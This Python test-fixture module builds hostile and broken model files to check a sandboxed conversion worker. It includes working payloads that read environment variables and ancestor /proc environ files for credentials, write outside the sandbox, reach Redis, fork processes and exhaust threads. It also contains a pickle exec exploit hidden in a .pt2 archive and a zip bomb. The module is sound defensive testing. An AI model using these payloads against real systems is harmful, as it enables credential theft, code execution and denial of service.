"""Hostile and broken model files, built in code: payloads that run when the model is loaded
and try to escape, plus files that are merely wrong (NaN weights, a zip bomb, garbage)."""

from __future__ import annotations

import io
import textwrap
import zipfile
from pathlib import Path

from tests.workers.test_sandbox import hostile_package  # noqa: F401  (re-exported: torch.package payloads)

# The spec the torch.package template model (Linear(4, 2), input x) converts with.
PACKAGE_SPEC = {"inputs": [{"name": "x", "shape": [2, 4]}], "targets": ["onnx"], "passes": []}


def env_payload() -> str:
    """Read its own environment and every ancestor's /proc/<pid>/environ (the worker's holds
    the broker URL and S3 keys)."""
    return textwrap.dedent("""
        report.append("ENV=" + ";".join(f"{k}={v}" for k, v in os.environ.items()))
        pid = os.getppid()
        for _ in range(6):
            try:
                with open(f"/proc/{pid}/environ", "rb") as f:
                    report.append(f"ANCESTOR {pid} ENV=" + f.read().decode("utf-8", "replace").replace("\\0", ";"))
            except OSError as exc:
                report.append(f"ancestor {pid} environ: {exc.strerror}")
            try:
                with open(f"/proc/{pid}/stat") as f:
                    pid = int(f.read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                break
            if pid <= 1:
                break
    """)


def write_payload(marker_paths: list[Path]) -> str:
    """Write markers outside its working folder (and append to its own input model); then
    write inside it, which must work."""
    return textwrap.dedent(f"""
        targets = {[str(p) for p in marker_paths]!r}
        targets.append(os.path.join(os.path.dirname(os.getcwd()), "escaped-marker"))
        try:
            with open("request.json") as f:
                targets.append(json.load(f)["engine"]["model_path"])  # tamper with the job's own input
        except (OSError, ValueError, KeyError):
            pass
        for target in targets:
            try:
                with open(target, "a") as f:
                    f.write("escaped")
                report.append(f"WROTE {{target}}")
            except OSError as exc:
                report.append(f"write {{target}}: {{exc.strerror}}")
        with open("inside.txt", "w") as f:
            f.write("the sandbox's own folder is writable")
        report.append("cwd write ok")
    """)


def redis_payload(port: int, key: str) -> str:
    """Dial the broker's Redis port and SET a key."""
    return textwrap.dedent(f"""
        try:
            s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
            s.sendall(b"SET {key} escaped\\r\\n")
            report.append("REDIS REACHED " + s.recv(64).decode("ascii", "replace"))
        except OSError as exc:
            report.append(f"redis blocked: {{exc}}")
    """)


def fork_payload(marker: Path) -> str:
    """A fork bomb, bounded (32 children that sleep) so that a failed containment cannot take
    the shared test machine down, plus a shell that would touch a marker."""
    return textwrap.dedent(f"""
        import subprocess, time
        forked, error = 0, None
        try:
            for _ in range(32):
                child = os.fork()
                if child == 0:
                    time.sleep(20)
                    os._exit(0)
                forked += 1
        except OSError as exc:
            error = exc
        report.append(f"FORK forked={{forked}} error={{error}}")
        try:
            subprocess.run(["sh", "-c", "touch {marker}"], timeout=5)
            report.append("SHELL RAN")
        except OSError as exc:
            report.append(f"shell refused: {{exc}}")
    """)


def thread_hog(report: str, at_most: int = 5000) -> str:
    """Start threads (small stacks: a thread bound, not the memory limit, must stop it) until one
    is refused or `at_most` run; then `report(held: int, error: str | None)` and let them end."""
    return textwrap.dedent(f"""
        import threading
        threading.stack_size(256 << 10)
        held, release, refused = [], threading.Event(), None
        try:
            while len(held) < {at_most}:
                held.append(threading.Thread(target=release.wait))
                held[-1].start()
        except RuntimeError as exc:
            held.pop()
            refused = str(exc)
        {report}(len(held), refused)
        release.set()
        for t in held:
            t.join()
    """)


def payload(*parts: str) -> str:
    """Parts run in order; the findings leave as the exception message (the job's error)."""
    body = "".join(parts)
    return "import json, os, socket\nreport = []\n" + body + 'raise ValueError("PAYLOAD RAN | " + " | ".join(report))\n'


def tampered_pt2(src: Path, dest: Path, code: str) -> Path:
    """A copy of a real .pt2 whose sample-inputs pickle runs `code`.

    torch 2.13: torch.export.load reads `data/sample_inputs/model.pt` through
    `deserialize_torch_artifact`, which tries `torch.load(weights_only=True)` and, when that
    refuses a global, falls back to `weights_only=False` — full unpickling."""
    import torch

    class Payload:
        def __reduce__(self):  # noqa: ANN204 - the pickle calls exec(code)
            return (exec, (code,))

    buf = io.BytesIO()
    torch.save(Payload(), buf)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename.endswith("data/sample_inputs/model.pt"):
                data = buf.getvalue()
            zout.writestr(info.filename, data)
    return dest


def nan_pt2(dest: Path) -> Path:
    """tiny_linear exported with every weight NaN."""
    import torch

    from tests.models import CORPUS

    case = CORPUS["tiny_linear"]
    model = case.build()
    with torch.no_grad():
        for p in model.parameters():
            p.fill_(float("nan"))
    example = case.example_inputs(2)
    dim = torch.export.Dim("batch", min=1, max=64)
    ep = torch.export.export(model, example, dynamic_shapes=tuple({0: dim} for _ in example))
    torch.export.save(ep, dest)
    return dest


def zip_bomb(dest: Path, expanded_mib: int = 64) -> Path:
    """Looks like a torch.export archive; one entry inflates ~1000:1 (zeros, deflated)."""
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("model/archive_format", "pt2")
        with zf.open("model/data/weights/weight_0", "w") as entry:
            zeros = bytes(1 << 20)
            for _ in range(expanded_mib):
                entry.write(zeros)
    return dest


def state_dict_checkpoint(dest: Path) -> Path:
    import torch

    torch.save(torch.nn.Linear(4, 2).state_dict(), dest)
    return dest
